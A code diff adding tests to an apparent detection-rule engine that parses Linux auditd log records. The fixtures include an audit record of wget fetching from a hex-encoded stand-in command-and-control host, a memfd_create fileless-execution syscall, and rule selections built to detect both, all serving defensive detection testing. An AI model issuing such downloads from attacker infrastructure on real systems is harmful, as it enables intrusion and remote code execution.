@@ -193,3 +193,24 @@ test.each([
   const line = `<30>Jan  5 09:30:00 may-01 ${program}[7]: ${message}`
   expect(fires({ product: 'linux', service }, [message.slice(3, 12)], line)).toBe(expected)
 })
+
+const auditd = { product: 'linux', service: 'auditd' }
+const execve =
+  'type=EXECVE msg=audit(1795316400.965:93777): argc=3 a0="wget" a1="-q" a2=687474703A2F2F63322E6578616D706C65'
+const memfd =
+  'type=SYSCALL msg=audit(1795316400.965:9): syscall=319 exe="/usr/bin/python3" key="m"\u001dSYSCALL=memfd_create'
+
+test.each([
+  ['as it stands', ''],
+  ['with its host', 'node=web-01 '],
+  ['in syslog', '<30>Nov 22 09:59:59 web-01 audispd: node=web-01 '],
+])('rules for auditd see fields of the audit log %s', (_, before) => {
+  const selection = { type: 'EXECVE', a0: 'wget', 'a2|startswith': 'http://c2.' }
+  expect(fires(auditd, selection, before + execve)).toBe(true)
+  expect(fires(auditd, { ...selection, a0: 'curl' }, before + execve)).toBe(false)
+  expect(fires({ product: 'linux' }, ['EXECVE'], before + execve)).toBe(true)
+  expect(
+    fires(auditd, { type: 'SYSCALL', SYSCALL: 'memfd_create', key: 'm' }, before + memfd),
+  ).toBe(true)
+  expect(fires({ product: 'linux', service: 'syslog' }, ['wget'], before + execve)).toBe(false)
+})
